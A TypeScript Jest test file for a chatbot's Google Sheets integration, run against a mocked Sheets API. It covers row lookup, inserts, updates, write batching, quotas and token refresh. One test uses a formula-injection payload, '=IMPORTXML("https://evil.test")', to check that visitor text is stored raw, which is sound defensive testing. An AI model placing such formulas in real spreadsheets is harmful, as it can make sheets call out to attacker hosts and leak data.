import { createVerify, generateKeyPairSync } from 'node:crypto'
import { describe, expect, test } from '@jest/globals'
import { columnName } from '../../server/chat/engine/blocks/vendors/google-sheets.ts'
import {
  MAX_SHEET_BATCH_BYTES,
  MAX_SHEET_BATCH_WRITES,
  type SheetWrite,
  writeTogether,
} from '../../server/chat/engine/blocks/vendors/sheet-batches.ts'
import type { TurnOptions } from '../../server/chat/engine/types.ts'
import type { OutboundRequest, OutboundResponse } from '../../server/outbound/client.ts'
import { boundNamed } from '../support/bounds.ts'
import { ask, bot, chat, idOf, type Part, text } from '../support/chat.ts'
import { runs } from '../support/runs.ts'

/* Sheets of Google against a double with the routes that the service uses. */

const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2_048 })
const pem = privateKey.export({ type: 'pkcs8', format: 'pem' })

const json = (body: unknown, status = 200): OutboundResponse => ({
  ok: true,
  status,
  contentType: 'application/json',
  headers: {},
  body: Buffer.from(JSON.stringify(body)),
})

let accounts = 0

/** A spreadsheet with one sheet, and an account of its own, since tokens and titles are cached by account. */
function spreadsheet(rows: string[][], title = "Ada's") {
  accounts += 1
  const email = `bots${accounts}@x.iam.gserviceaccount.com`
  const requests: OutboundRequest[] = []
  /** Statuses of the next requests, in place of what they ask for. */
  const failures: number[] = []
  const claims: Record<string, unknown>[] = []
  const reply = (request: OutboundRequest): OutboundResponse => {
    const url = new URL(request.url)
    if (url.host === 'oauth2.googleapis.com') {
      const assertion = new URLSearchParams(String(request.body)).get('assertion') ?? ''
      const [head = '', body = '', signature = ''] = assertion.split('.')
      const isValid = createVerify('RSA-SHA256')
        .update(`${head}.${body}`)
        .verify(publicKey, signature, 'base64url')
      if (!isValid) return json({ error: 'invalid_grant' }, 400)
      claims.push(JSON.parse(Buffer.from(body, 'base64url').toString()))
      return json({ access_token: `token${claims.length}`, expires_in: 3_599 })
    }
    requests.push(request)
    const failure = failures.shift()
    if (failure !== undefined) return json({ error: { message: `failure ${failure}` } }, failure)
    const path = decodeURIComponent(url.pathname.replace('/v4/spreadsheets/s1', ''))
    const range = `'${title.replaceAll("'", "''")}'`
    const body = request.body === undefined ? undefined : JSON.parse(String(request.body))
    if (path === '')
      return json({
        sheets: [{ properties: { sheetId: 0, title: 'x' } }, { properties: { sheetId: 7, title } }],
      })
    if (path === `/values/${range}`) return json({ values: rows })
    if (path === `/values/${range}!1:1`) return json({ values: rows.slice(0, 1) })
    if (path === `/values/${range}!A1:append`) {
      rows.push(...body.values)
      return json({ updates: { updatedRows: body.values.length } })
    }
    if (path === '/values:batchUpdate') {
      for (const { range: place, values } of body.data) {
        const [, column = '', row = ''] = /!([A-Z])(\d+)$/.exec(place) ?? []
        const cells = rows[Number(row) - 1] as string[]
        cells[column.charCodeAt(0) - 65] = values[0][0]
      }
      return json({})
    }
    return json({ error: { message: `Unable to parse range ${path}` } }, 400)
  }
  const findCredentials = async (id: string, type: string) =>
    id === 'c' && type === 'google sheets'
      ? { serviceAccount: { client_email: email, private_key: pem } }
      : null
  return { rows, requests, failures, claims, world: { reply, findCredentials } }
}

type Sheet = ReturnType<typeof spreadsheet>

const variables = ['Question', 'Name', 'Age']

async function run(sheet: Sheet, action: string, options: object, said = 'Ada', turn: TurnOptions = {}) {
  const part: Part = {
    type: 'Google Sheets',
    options: { credentialsId: 'c', spreadsheetId: 's1', sheetId: '7', action, ...options },
  }
  const client = await chat(bot({ g: [ask('Question'), part, text('and on')] }, { variables }), sheet.world)
  await client.say(said, turn)
  expect(client.texts()).toEqual(['and on'])
  return client
}

const people = () => [
  ['Name', ' Age '],
  ['Ada', '36'],
  ['Bob', '40'],
  ['ada b', '5'],
]
const comparing = (column: string, comparisonOperator: string, value: string) => ({
  id: 'x',
  column,
  comparisonOperator,
  value,
})
const extract = {
  cellsToExtract: [
    { id: '1', column: 'Name', variableId: idOf('Name') },
    { id: '2', column: 'Age', variableId: idOf('Age') },
  ],
}
const GET = 'Get data from sheet'

describe('get', () => {
  test.each<[string, object, unknown]>([
    ['all rows without a filter', {}, ['Ada', 'Bob', 'ada b']],
    ['the last row', { totalRowsToExtract: 'Last' }, 'ada b'],
    ['an equal cell', { filter: { comparisons: [comparing('Name', 'Equal to', '{{Question}}')] } }, 'Ada'],
    [
      'a part in any case',
      { filter: { comparisons: [comparing('Name', 'Contains', ' ADA ')] } },
      ['Ada', 'ada b'],
    ],
    [
      'any of two comparisons by default',
      {
        filter: {
          comparisons: [comparing('Name', 'Equal to', 'Ada'), comparing('Age', 'Greater than', '39')],
        },
      },
      ['Ada', 'Bob'],
    ],
    [
      'all of two comparisons',
      {
        filter: {
          logicalOperator: 'AND',
          comparisons: [comparing('Name', 'Starts with', 'ada'), comparing('Age', 'Less than', '10')],
        },
      },
      'ada b',
    ],
    ['the older reference cell', { referenceCell: { id: 'r', column: 'Age', value: '40' } }, 'Bob'],
  ])('finds %s', async (_, options, names) => {
    const client = await run(spreadsheet(people()), GET, { ...extract, ...options })
    expect([client.value('Name'), client.logs()]).toEqual([names, []])
  })

  test('leaves variables unchanged where no row matches', async () => {
    const filter = { comparisons: [comparing('Name', 'Equal to', 'Eve')] }
    const client = await run(spreadsheet(people()), GET, { ...extract, filter })
    expect(client.outcome.logs).toMatchObject([
      { status: 'info', description: "Couldn't find any rows matching the filter" },
    ])
    expect(client.value('Name')).toBeUndefined()
  })

  test('requests one token for many turns, and reads the title once', async () => {
    const sheet = spreadsheet(people())
    await run(sheet, GET, extract)
    await run(sheet, GET, extract)
    expect(sheet.claims).toMatchObject([
      { scope: 'https://www.googleapis.com/auth/spreadsheets', aud: 'https://oauth2.googleapis.com/token' },
    ])
    expect(sheet.requests.map(({ url }) => new URL(url).pathname)).toEqual(
      [
        '/v4/spreadsheets/s1',
        "/v4/spreadsheets/s1/values/'Ada''s'",
        "/v4/spreadsheets/s1/values/'Ada''s'",
      ].map(encodeURI),
    )
    expect(sheet.requests[0]?.headers.authorization).toBe('Bearer token1')
  })
})

describe('insert', () => {
  const insert = (cells: object) => ({
    cellsToInsert: Object.entries(cells).map(([column, value]) => ({ id: column, column, value })),
  })

  test('writes texts of visitors as they are, never as formulas', async () => {
    const sheet = spreadsheet(people())
    const client = await run(
      sheet,
      'Insert a row',
      insert({ Age: '{{Question}}' }),
      '=IMPORTXML("https://evil.test")',
    )
    expect(sheet.rows.at(-1)).toEqual([null, '=IMPORTXML("https://evil.test")'])
    expect(new URL(sheet.requests.at(-1)?.url ?? '').searchParams.get('valueInputOption')).toBe('RAW')
    expect(client.outcome.logs).toMatchObject([{ status: 'success' }])
  })

  test('logs a column that the sheet does not have, and inserts the others', async () => {
    const sheet = spreadsheet(people())
    const client = await run(sheet, 'Insert a row', insert({ Name: 'Eve', Nothing: '1' }))
    expect(sheet.rows.at(-1)).toEqual(['Eve', null])
    expect(client.logs()[0]).toBe('Google Sheets: the sheet has no column Nothing')
  })

  test('waits for the quota, and gives up where the wait would be too long', async () => {
    const sheet = spreadsheet(people())
    sheet.failures.push(429)
    await run(sheet, 'Insert a row', insert({ Name: 'Eve' }))
    expect(sheet.rows).toHaveLength(5)
    const rejected = spreadsheet(people())
    rejected.failures.push(403)
    const client = await run(rejected, 'Insert a row', insert({ Name: 'Eve' }))
    expect(client.outcome.logs).toMatchObject([
      {
        description: 'Google Sheets answered 403',
        context: 'While inserting a row in the sheet',
        details: '{"error":{"message":"failure 403"}}',
      },
    ])
    expect(rejected.rows).toHaveLength(4)
  })

  test('requests a new token after the old one was revoked', async () => {
    const sheet = spreadsheet(people())
    sheet.failures.push(401)
    await run(sheet, 'Insert a row', insert({ Name: 'Eve' }))
    expect(sheet.claims).toHaveLength(2)
    expect(sheet.rows).toHaveLength(5)
  })
})

/** Turns that share requests, as those of the service do. */
const sharing = (sheet: Sheet): Sheet => ({
  ...sheet,
  world: { ...sheet.world, shareRequest: (work: () => Promise<void>) => work() } as Sheet['world'],
})

const insertOf = (Name: string) => ({ cellsToInsert: [{ id: '1', column: 'Name', value: Name }] })
const pathsOf = (sheet: Sheet) => sheet.requests.map(({ url }) => decodeURIComponent(new URL(url).pathname))

describe('concurrent writes', () => {
  test('are sent once, in few requests, and a lone one at once', async () => {
    const sheet = sharing(spreadsheet(people()))
    await run(sheet, 'Insert a row', insertOf('0'))
    expect(pathsOf(sheet).filter((path) => path.includes('append'))).toHaveLength(1)
    const names = Array.from({ length: 20 }, (_, index) => String(index + 1))
    await Promise.all(names.map((name) => run(sheet, 'Insert a row', insertOf(name))))
    const inserted = sheet.rows.slice(4).map(([name]) => Number(name))
    expect(inserted.toSorted((one, other) => one - other)).toEqual([0, ...names.map(Number)])
    expect(pathsOf(sheet).filter((path) => path.includes('append')).length).toBeLessThanOrEqual(3)
  })

  /** Sizes of the batches of writes with so many bytes each. */
  async function sizesOf(sheet: string, count: number, bytes: number) {
    const sizes: number[] = []
    const send = async (_sender: unknown, writes: () => SheetWrite[]) => {
      sizes.push(writes().length)
      for (const write of writes()) write.isOver = true
      return 0
    }
    // As JSON, a cell without text has 26 bytes, and the list one more.
    const many = Math.ceil(bytes / 40_000)
    const left = bytes - 1 - 26 * many
    const cells = Array.from({ length: many }, (_, index) => ({
      column: 'C',
      value: 'x'.repeat(Math.floor((left + index) / many)),
    }))
    const writeOne = () => {
      const waiting = {
        effects: { shareRequest: (work: () => Promise<void>) => work() },
        limits: { milliseconds: 60_000, outboundCalls: 10 },
        spent: { outboundCalls: 0, waitingMs: 0, sheetsMs: 0, outputCharacters: 0 },
        sheetRows: [],
        startedAt: performance.now(),
        frames: [],
        logs: [],
      }
      const made = { block: { id: 'b' }, call: { options: { spreadsheetId: 's1', sheetId: '7' } } }
      const write = { run: waiting, made, cells } as unknown as SheetWrite
      return writeTogether(write, { account: sheet, sheet, kind: 'insert' }, send)
    }
    await Promise.all(Array.from({ length: count }, writeOne))
    return sizes
  }

  test('are sent without a row whose cell is longer than the vendor accepts', async () => {
    const sheet = sharing(spreadsheet(people()))
    const [long, usual] = await Promise.all([
      run(sheet, 'Insert a row', insertOf('x'.repeat(boundNamed('MAX_CELL_CHARACTERS') + 1))),
      run(sheet, 'Insert a row', insertOf('Usual')),
    ])
    expect(long.logs()).toEqual(['Google Sheets: the request failed'])
    expect(usual.logs()).toEqual(['Google Sheets: a row was inserted'])
    expect(sheet.rows.map(([name]) => name)).toContain('Usual')
  })

  test('are as many as the table says in a batch, and one more begins the next', async () => {
    expect(await sizesOf('many', MAX_SHEET_BATCH_WRITES, 40)).toEqual([MAX_SHEET_BATCH_WRITES])
    expect(await sizesOf('more', MAX_SHEET_BATCH_WRITES + 1, 40)).toEqual([MAX_SHEET_BATCH_WRITES, 1])
  })

  test('have as many bytes as the table says in a batch, and one more begins the next', async () => {
    expect(await sizesOf('large', 4, MAX_SHEET_BATCH_BYTES / 4)).toEqual([4])
    expect(await sizesOf('larger', 4, MAX_SHEET_BATCH_BYTES / 4 + 1)).toEqual([3, 1])
  })

  test('change rows as those before leave them, in two requests', async () => {
    const sheet = sharing(spreadsheet(people()))
    const change = (from: string, to: string) => {
      let client: ReturnType<typeof run> | undefined
      const joined = new Promise<void>((resolve) => {
        const shareRequest = (work: () => Promise<void>) => {
          resolve()
          return work()
        }
        const world = { ...sheet.world, shareRequest } as Sheet['world']
        client = run({ ...sheet, world }, 'Update a row', {
          filter: { comparisons: [comparing('Age', 'Equal to', from)] },
          cellsToUpsert: [{ id: '1', column: 'Age', value: to }],
        })
      })
      return { client, joined }
    }
    const changes = []
    for (const [from, to] of [
      ['36', '37'],
      ['40', '41'],
      ['41', '42'],
      ['9', '10'],
    ] as const) {
      const one = change(from, to)
      await one.joined
      changes.push(one)
    }
    const clients = await Promise.all(changes.map(({ client }) => client))
    expect(sheet.rows.map(([, age]) => age)).toEqual([' Age ', '37', '42', '5'])
    expect(clients.map((client) => client?.logs())).toEqual([
      ['Google Sheets: a row was updated'],
      ['Google Sheets: a row was updated'],
      ['Google Sheets: a row was updated'],
      ['Could not find any row that matches the filter'],
    ])
    expect(pathsOf(sheet).filter((path) => path.endsWith('batchUpdate')).length).toBeLessThanOrEqual(2)
  })

  test.each([
    [0, 'Google Sheets: 10000 rows were updated', 'new'],
    [1, 'Google Sheets: the request failed', 'old'],
  ])('change as many cells as the table says, and one more is not written', async (more, entry, age) => {
    const rows = Array.from({ length: boundNamed('MAX_CHANGED_CELLS') + more }, () => ['Ada', 'old'])
    const sheet = sharing(spreadsheet([['Name', 'Age'], ...rows]))
    const client = await run(sheet, 'Update a row', {
      filter: { comparisons: [comparing('Name', 'Equal to', 'Ada')] },
      cellsToUpsert: [{ id: '1', column: 'Age', value: 'new' }],
    })
    expect(client.logs()).toEqual([entry])
    expect(new Set(sheet.rows.slice(1).map(([, cell]) => cell))).toEqual(new Set([age]))
  })

  test('change small ranges in the next request where a broad one fills the first', async () => {
    const most = boundNamed('MAX_CHANGED_CELLS')
    const rows = Array.from({ length: most }, () => ['Ada', 'old'])
    const sheet = sharing(spreadsheet([['Name', 'Age'], ...rows, ['Bob', 'old'], ['Eve', 'old']]))
    const names = ['Ada', 'Bob', 'Eve', 'Ada']
    const clients = await Promise.all(
      names.map((name, nth) =>
        run(sheet, 'Update a row', {
          filter: { comparisons: [comparing('Name', 'Equal to', name)] },
          cellsToUpsert: [{ id: '1', column: 'Age', value: `new ${nth}` }],
        }),
      ),
    )
    expect(clients.map((client) => client.logs())).toEqual(
      [most, 1, 1, most].map((count) => [
        `Google Sheets: ${count === 1 ? 'a row was' : `${count} rows were`} updated`,
      ]),
    )
    expect(sheet.rows.slice(-2)).toEqual([
      ['Bob', 'new 1'],
      ['Eve', 'new 2'],
    ])
    expect(new Set(sheet.rows.slice(1, -2).map(([, age]) => age)).size).toBe(1)
  })

  test('stay within the quota of the account, however many come at once, and are each written once', async () => {
    const count = runs(50, 1_000)
    const keys = Array.from({ length: count }, (_, index) => `k${index}`)
    const sheet = sharing(spreadsheet([['Name', 'Age'], ...keys.map((key) => [key, 'old'])]))
    const calledAt: number[] = []
    const reply = (request: OutboundRequest): OutboundResponse => {
      if (request.url.includes('oauth2')) return sheet.world.reply(request)
      calledAt.push(performance.now())
      const isOver = calledAt.filter((at) => performance.now() - at < 60_000).length > 60
      return isOver ? json({ error: { message: 'Quota exceeded' } }, 429) : sheet.world.reply(request)
    }
    const busy = { ...sheet, world: { ...sheet.world, reply } }
    // The turns share one thread, each beside all others.
    const turn = { limits: { workMilliseconds: 120_000 } }
    const change = async (action: string, options: object) =>
      (await run(busy, action, options, 'Ada', turn)).logs()
    const logs = await Promise.all([
      ...keys.map((_, index) => change('Insert a row', insertOf(`new ${index}`))),
      ...keys.map((key) =>
        change('Update a row', {
          filter: { comparisons: [comparing('Name', 'Equal to', key)] },
          cellsToUpsert: [{ id: '1', column: 'Age', value: `${key} changed` }],
        }),
      ),
    ])
    expect(new Set(logs.flat())).toEqual(
      new Set(['Google Sheets: a row was inserted', 'Google Sheets: a row was updated']),
    )
    expect(sheet.rows.slice(1, count + 1)).toEqual(keys.map((key) => [key, `${key} changed`]))
    const inserted = sheet.rows.slice(count + 1).map(([name]) => name)
    expect(inserted.toSorted()).toEqual(keys.map((_, index) => `new ${index}`).toSorted())
  })

  test('fail with an entry in the log where the token ends before the row is sent', async () => {
    const sheet = spreadsheet(people())
    let asked = 0
    const reply = (request: OutboundRequest): OutboundResponse => {
      if (!request.url.includes('oauth2')) return sheet.world.reply(request)
      asked += 1
      // So short that each request needs another one: for the title, the head and the row.
      return asked === 3 ? json({}, 500) : json({ access_token: 'short', expires_in: 300 })
    }
    const shared = sharing({ ...sheet, world: { ...sheet.world, reply } })
    const client = await run(shared, 'Insert a row', insertOf('0'))
    expect(client.logs()).toEqual(['Google Sheets answered 500'])
    expect(sheet.rows).toEqual(people())
  })

  test('fail together, each with the entry in its own log', async () => {
    const sheet = sharing(spreadsheet(people()))
    await run(sheet, 'Insert a row', insertOf('0'))
    sheet.failures.push(403)
    const clients = await Promise.all(
      ['1', '2', '3'].map((name) => run(sheet, 'Insert a row', insertOf(name))),
    )
    for (const client of clients)
      expect(client.outcome.logs).toMatchObject([{ description: 'Google Sheets answered 403' }])
    expect(sheet.rows).toHaveLength(5)
  })

  test('send nothing without a lease of the turn, and log that', async () => {
    const sheet = spreadsheet(people())
    const world = { ...sheet.world, shareRequest: async () => {} } as Sheet['world']
    const client = await run({ ...sheet, world }, 'Insert a row', insertOf('1'))
    expect(client.outcome.logs).toMatchObject([
      {
        description: 'Google Sheets: the request failed',
        details: 'Nothing was written: another request runs this turn',
      },
    ])
    expect(sheet.requests).toEqual([])
  })
})

test('update changes the named cells of all rows that match in one request', async () => {
  const sheet = spreadsheet(people())
  const client = await run(sheet, 'Update a row', {
    filter: { comparisons: [comparing('Name', 'Contains', 'ada')] },
    cellsToUpsert: [
      { id: '1', column: 'Age', value: '=1+1' },
      { id: '2', column: 'Name', value: '' },
    ],
  })
  expect(sheet.rows).toEqual([
    ['Name', ' Age '],
    ['Ada', '=1+1'],
    ['Bob', '40'],
    ['ada b', '=1+1'],
  ])
  expect(sheet.requests.filter(({ method }) => method === 'POST')).toHaveLength(1)
  expect(client.logs()).toEqual(['Google Sheets: 2 rows were updated'])
})

test.each<[string, string, object, string[][], string]>([
  [
    'without credentials',
    GET,
    { ...extract, credentialsId: '' },
    people(),
    'Missing credentialsId or spreadsheetId',
  ],
  [
    'without a spreadsheet',
    GET,
    { ...extract, spreadsheetId: '' },
    people(),
    'Missing credentialsId or spreadsheetId',
  ],
  ['with unknown credentials', GET, { ...extract, credentialsId: 'x' }, people(), 'Credentials not found'],
  ['without cells', GET, { cellsToExtract: [] }, people(), 'Google Sheets: there are no cells to extract'],
  [
    'update without a filter',
    'Update a row',
    { cellsToUpsert: [{ id: '1', column: 'Age', value: '1' }] },
    people(),
    'Google Sheets: there is no filter',
  ],
  ['of an unknown sheet', GET, { ...extract, sheetId: '8' }, people(), 'Google Sheets: the request failed'],
  ['with two equal titles', GET, extract, [['Name', 'Name']], 'Google Sheets: the request failed'],
  ['without titles', GET, extract, [], 'Google Sheets: the request failed'],
])('%s continues with an entry in the log', async (_, action, options, rows, description) => {
  expect((await run(spreadsheet(rows), action, options)).logs()).toEqual([description])
})

test('an invalid private key is an error in the log', async () => {
  const sheet = spreadsheet(people())
  const findCredentials = async () => ({ serviceAccount: { client_email: 'a@x.test', private_key: 'none' } })
  const client = await run(
    { ...sheet, world: { ...sheet.world, findCredentials } as Sheet['world'] },
    GET,
    extract,
  )
  expect(client.logs()).toEqual(['Google Sheets: the private key of the credentials cannot be used'])
})

test('columns are named as in spreadsheets', () => {
  expect([0, 25, 26, 51, 52, 701, 702].map(columnName)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA'])
})
